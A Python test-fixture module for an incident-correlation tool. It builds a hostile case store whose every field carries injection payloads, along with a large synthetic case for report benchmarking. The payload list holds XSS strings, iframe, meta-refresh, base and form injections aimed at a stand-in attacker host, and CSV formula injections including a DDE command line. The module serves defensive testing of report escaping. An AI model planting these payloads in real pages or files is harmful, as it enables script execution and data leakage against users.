"""Case stores built directly (no simulation): a hostile one whose every field is an attack on
the report, and a large one for the scale bar. Used by tests/report and bench/report.py."""

from __future__ import annotations

import datetime as dt
import random
from pathlib import Path

import duckdb
import orjson
import pyarrow as pa

from spearhunt.model.detection import RuleInfo
from spearhunt.model.mail import AttachmentReport, Ioc, MailVerdict, Reason
from spearhunt.model.story import (
    Beacon,
    CorrelationResult,
    Evidence,
    ExfilFlow,
    HostReach,
    PatientZero,
    ScorePart,
    Stage,
    Story,
)
from spearhunt.store import mail as mail_store
from spearhunt.store import results
from spearhunt.store.case import CaseStore, open_case

# Where an injected request would go if anything were fetched (TEST-NET-2, never routed).
EVIL = "http://198.51.100.77"
PAYLOADS = (
    '<script>alert("x1")</script>',
    '"><img src=x onerror=alert("x2")>',
    "'><svg/onload=alert('x3')>",
    'javascript:alert("x4")',
    "<a href=\"javascript:alert('x5')\">click</a>",
    '</style><script>alert("x6")</script>',
    f"<style>body{{background:url({EVIL}/css)}}</style>",
    'x" style="background-image:url(' + EVIL + '/attr)" onmouseover="alert(7)" x="',
    f"<link rel=stylesheet href={EVIL}/x.css>",
    f'<iframe src="{EVIL}/frame"></iframe>',
    "</title><script>alert(9)</script>{{7*7}}",
    "<math><mtext><table><mglyph><style><img src=x onerror=alert(10)>",
    "]]></text></svg><script>alert(11)</script>",
    f'<meta http-equiv="refresh" content="0;url={EVIL}/refresh">',
    f'<base href="{EVIL}/">',
    "\u202e<script>alert(13)</script>",
    f"<form action={EVIL}/form><button>go</button></form>",
    "expression(alert(14));-moz-binding:url(" + EVIL + "/xbl)",
    '=HYPERLINK("' + EVIL + '/csv","x")',
    "@SUM(1+1)*cmd|' /C calc'!A0",
)


def p(i: int) -> str:
    """The i-th payload (cycling)."""
    return PAYLOADS[i % len(PAYLOADS)]


def _store(path: Path) -> duckdb.DuckDBPyConnection:
    cs = CaseStore(path, command="test")
    cs.finish(0, 0)
    return cs.con


def hostile_case(path: Path) -> Path:
    """A case whose hosts, users, command lines, file names, rule titles, mail fields, URLs,
    story text and IOCs all carry payloads; returns ``path``."""
    con = _store(path)
    t0 = dt.datetime(2026, 3, 2, 9, 0, 0)
    hosts = [f"ws-{i}{p(i)}" for i in range(3)]
    events, detections = [], []
    rules = [
        RuleInfo(
            f"rule-{i}",
            f"Rule {p(i)}",
            lvl,
            ("attack.execution", "attack.t1059.001", "attack.lateral_movement", "attack.t1021.002"),
            source=f"{p(i + 5)}.yml",
            description=p(i),
        )
        for i, lvl in enumerate(("high", "critical", "medium"))
    ]
    for i in range(len(PAYLOADS)):
        fields = {
            "CommandLine": f"powershell -c {p(i)}",
            "Image": f"C:\\Users\\x\\{p(i + 1)}.exe",
            "TargetFilename": f"C:\\Temp\\{p(i + 2)}",
            "ParentImage": p(i + 3),
            "User": p(i + 4),
        }
        ts = t0 + dt.timedelta(minutes=7 * i)
        host = hosts[i % len(hosts)]
        events.append(
            (
                i + 1,
                ts,
                host,
                "Microsoft-Windows-Sysmon/Operational",
                "Sysmon",
                1,
                i + 1,
                0,
                i,
                orjson.dumps(fields).decode(),
            )
        )
        r = rules[i % len(rules)]
        detections.append(
            (
                1,
                r.rule_id,
                r.title,
                r.level,
                list(r.tags),
                list(r.tactics),
                list(r.techniques),
                i + 1,
                ts,
                host,
                "Microsoft-Windows-Sysmon/Operational",
                1,
                i + 1,
                f"{p(i + 6)}.evtx",
            )
        )
    con.executemany(
        "INSERT INTO events (eid, ts, computer, channel, provider, event_id, record_id, src, pos, fields) "
        "VALUES (?, ?, ?, ?, ?, ?, ?, ?, ?, ?)",
        events,
    )
    con.executemany("INSERT INTO detections VALUES (" + ", ".join("?" * 14) + ")", detections)
    con.executemany(
        "INSERT INTO rules (rule_id, title, level, tags, source, description) VALUES (?, ?, ?, ?, ?, ?)",
        [(r.rule_id, r.title, r.level, list(r.tags), r.source, r.description) for r in rules],
    )
    con.close()
    mid = f"<{p(1)}@evil.example>"
    att = AttachmentReport(
        name=f"{p(2)}.docx",
        sha256="a" * 64,
        md5="b" * 32,
        sha1="c" * 40,
        size=10,
        type=p(3),
        depth=1,
        parent=None,
        findings=(Reason("r1", p(4), "critical", 70, (p(5),), "T1221", p(6)),),
        children=(
            AttachmentReport(
                name=p(7),
                sha256="d" * 64,
                md5="e" * 32,
                sha1="f" * 40,
                size=1,
                type="ole",
                depth=2,
                parent=p(2),
            ),
        ),
    )
    verdict = MailVerdict(
        file=p(8),
        message_id=mid,
        subject=f"Invoice {p(0)}",
        sender=f"{p(9)} <a@evil.example>",
        to=(p(10),),
        date=p(11),
        verdict="malicious",
        score=99,
        reasons=tuple(
            Reason(
                f"r{i}", f"Reason {p(i)}", "high", 10 + i, (p(i + 1), p(i + 2)), p(i + 3), p(i + 4)
            )
            for i in range(len(PAYLOADS))
        ),
        iocs=(
            Ioc("url", p(3)),
            Ioc("url", f"{EVIL}/{p(0)}"),
            Ioc("domain", p(1)),
            Ioc("sender", p(9)),
            Ioc("ip", "198.51.100.77"),
            Ioc("filename", p(2)),
            Ioc("reply_to", "x'y\\z@evil.example"),
        ),
        attachments=(att,),
        cc=(p(12),),
        reported_by=p(13),
    )
    mail_store.write(path, [verdict])
    story = Story(
        id=f"S-{p(0)}",
        score=99.5,
        title=f"Story {p(1)}",
        score_parts=tuple(ScorePart(p(i), float(i), p(i + 1)) for i in range(4)),
        patient_zero=PatientZero(
            hosts[0],
            user=p(2),
            message_id=mid,
            mail_subject=p(0),
            mail_sender=p(9),
            mail_verdict="malicious",
            attachment=p(2),
            attachment_sha256="a" * 64,
            first_seen=t0,
            how=p(3),
        ),
        hosts=tuple(
            HostReach(
                h,
                hosts[0] if i else None,
                "T1021.002" if i else None,
                t0 + dt.timedelta(hours=i),
                account=p(i + 4),
                how=p(i + 5),
                alerts=i,
            )
            for i, h in enumerate(hosts)
        ),
        exfiltration=(
            ExfilFlow(
                hosts[1],
                p(6),
                123456789,
                t0 + dt.timedelta(hours=5),
                t0 + dt.timedelta(hours=6),
                ip="198.51.100.77",
                domain=p(6),
                reasons=(p(7),),
            ),
        ),
        stages=tuple(
            Stage(t, t0, t0 + dt.timedelta(hours=i + 1), i + 1)
            for i, t in enumerate(
                ("initial_access", "execution", "lateral_movement", "exfiltration")
            )
        ),
        techniques=("T1566.001", "T1059.001", "T1021.002", f"T{p(8)}"),
        evidence=(
            Evidence(
                "mail", t0, None, p(0), f"mail:{mid}", None, ("initial_access",), ("T1566.001",)
            ),
            *(
                Evidence(
                    "alert",
                    d[8],
                    d[9],
                    d[2],
                    f"alert:{d[7]}:{d[1]}",
                    d[3],
                    tuple(d[5]),
                    tuple(d[6]),
                )
                for d in detections
            ),
            *(
                Evidence(
                    "event",
                    t0 + dt.timedelta(minutes=i),
                    hosts[i % 3],
                    p(i),
                    f"event:{i + 1}",
                    None,
                    (p(i),),
                    (p(i + 1),),
                )
                for i in range(len(PAYLOADS))
            ),
            Evidence(
                "network",
                t0 + dt.timedelta(hours=5),
                hosts[1],
                p(9),
                f"net:{p(10)}",
                None,
                ("exfiltration",),
                (),
            ),
        ),
        users=(p(11), p(12)),
        beacons=(
            Beacon(
                hosts[0],
                p(13),
                "198.51.100.78",
                0.9,
                100,
                60.0,
                t0,
                t0 + dt.timedelta(hours=8),
                ((p(14), 0.5),),
            ),
        ),
        staged=(p(15), p(16)),
        first_seen=t0,
        last_seen=t0 + dt.timedelta(hours=8),
    )
    _save(
        path,
        CorrelationResult(stories=(story,), parameters=((p(17), p(18)),), counts=(("stories", 1),)),
    )
    return path


def _save(path: Path, result: CorrelationResult) -> None:
    with open_case(path, write=True) as case:
        results.save(case, result, dt.datetime(2026, 3, 9), "test")
        case.checkpoint()


TACTIC_TECH = (
    ("initial_access", "T1566.001"),
    ("execution", "T1059.001"),
    ("persistence", "T1547.001"),
    ("privilege_escalation", "T1548.002"),
    ("stealth", "T1218.011"),
    ("credential_access", "T1003.001"),
    ("discovery", "T1135"),
    ("lateral_movement", "T1021.002"),
    ("collection", "T1560.001"),
    ("command_and_control", "T1105"),
    ("exfiltration", "T1567.002"),
)


def large_case(
    path: Path, detections: int = 10_000, hosts: int = 300, stories: int = 15, seed: int = 1
) -> Path:
    """A case with ``detections`` detections over ``hosts`` hosts and ``stories`` big stories."""
    rnd = random.Random(seed)
    con = _store(path)
    t0 = dt.datetime(2026, 3, 1)
    names = [f"host-{i:04d}.corp.example" for i in range(hosts)]
    rules = [
        RuleInfo(
            f"rule-{i:03d}",
            f"Suspicious behaviour number {i} of a long rule title",
            lvl,
            (f"attack.{tac}", f"attack.{tech.lower()}"),
            source=f"rules/r{i}.yml",
        )
        for i, (lvl, (tac, tech)) in enumerate(
            (rnd.choice(("low", "medium", "high", "critical")), TACTIC_TECH[i % len(TACTIC_TECH)])
            for i in range(60)
        )
    ]
    ev_cols: dict[str, list[object]] = {
        k: []
        for k in (
            "eid",
            "ts",
            "computer",
            "channel",
            "provider",
            "event_id",
            "record_id",
            "src",
            "pos",
            "fields",
        )
    }
    det_rows = []
    for i in range(detections):
        ts = t0 + dt.timedelta(seconds=rnd.randint(0, 14 * 86400))
        host = names[min(int(rnd.expovariate(1 / 20)), hosts - 1)]
        r = rules[rnd.randrange(len(rules))]
        fields = {
            "Image": "C:\\Windows\\System32\\cmd.exe",
            "CommandLine": f"cmd.exe /c whoami /all & echo {i} " + "x" * rnd.randint(10, 400),
            "ParentImage": "C:\\Windows\\explorer.exe",
            "User": f"CORP\\u{i % 97}",
        }
        for k, v in (
            ("eid", i + 1),
            ("ts", ts),
            ("computer", host),
            ("channel", "Microsoft-Windows-Sysmon/Operational"),
            ("provider", "Sysmon"),
            ("event_id", 1),
            ("record_id", i + 1),
            ("src", 0),
            ("pos", i),
            ("fields", orjson.dumps(fields).decode()),
        ):
            ev_cols[k].append(v)
        det_rows.append(
            (
                1,
                r.rule_id,
                r.title,
                r.level,
                list(r.tags),
                list(r.tactics),
                list(r.techniques),
                i + 1,
                ts,
                host,
                "Microsoft-Windows-Sysmon/Operational",
                1,
                i + 1,
                "big.evtx",
            )
        )
    table = pa.table(ev_cols)
    con.register("_ev", table)
    con.execute(
        "INSERT INTO events (eid, ts, computer, channel, provider, event_id, record_id, src, pos, fields) "
        "SELECT * FROM _ev"
    )
    con.unregister("_ev")
    det = pa.table({f"c{j}": [row[j] for row in det_rows] for j in range(14)})
    con.register("_det", det)
    con.execute("INSERT INTO detections SELECT * FROM _det")
    con.unregister("_det")
    con.executemany(
        "INSERT INTO rules (rule_id, title, level, tags, source, description) VALUES (?, ?, ?, ?, ?, ?)",
        [(r.rule_id, r.title, r.level, list(r.tags), r.source, r.description) for r in rules],
    )
    con.close()
    by_host: dict[str, list[tuple]] = {}
    for row in det_rows:
        by_host.setdefault(row[9], []).append(row)
    story_list = []
    for s in range(stories):
        members = names[s * 8 : s * 8 + 8]
        rows = sorted((r for h in members for r in by_host.get(h, ())), key=lambda r: r[8])
        ev = [
            Evidence(
                "alert",
                r[8],
                r[9].split(".")[0],
                r[2],
                f"alert:{r[7]}:{r[1]}",
                r[3],
                tuple(r[5]),
                tuple(r[6]),
            )
            for r in rows
        ]
        first = rows[0][8] if rows else t0
        last = rows[-1][8] if rows else t0
        story_list.append(
            Story(
                id=f"S-{s:010x}",
                score=200.0 - s * 7,
                title=f"activity on {members[0]}; {len(members) - 1} more hosts",
                score_parts=(ScorePart("alerts", 40.0, f"{len(rows)} alerts"),),
                patient_zero=PatientZero(
                    members[0], user="u1", first_seen=first, how="first alert"
                ),
                hosts=tuple(
                    HostReach(
                        h,
                        members[0] if i else None,
                        "T1021.002" if i else None,
                        first + dt.timedelta(hours=i),
                        account="adm",
                        alerts=len(by_host.get(h, ())),
                    )
                    for i, h in enumerate(members)
                ),
                exfiltration=(
                    ExfilFlow(
                        members[1],
                        f"upload{s}.example.net",
                        10**9 + s,
                        last,
                        last,
                        ip=f"198.51.100.{s + 1}",
                    ),
                ),
                stages=tuple(Stage(tac, first, last, 3) for tac, _ in TACTIC_TECH),
                techniques=tuple(t for _, t in TACTIC_TECH),
                evidence=tuple(ev),
                users=("adm", "u1"),
                first_seen=first,
                last_seen=last,
            )
        )
    _save(path, CorrelationResult(stories=tuple(story_list)))
    return path
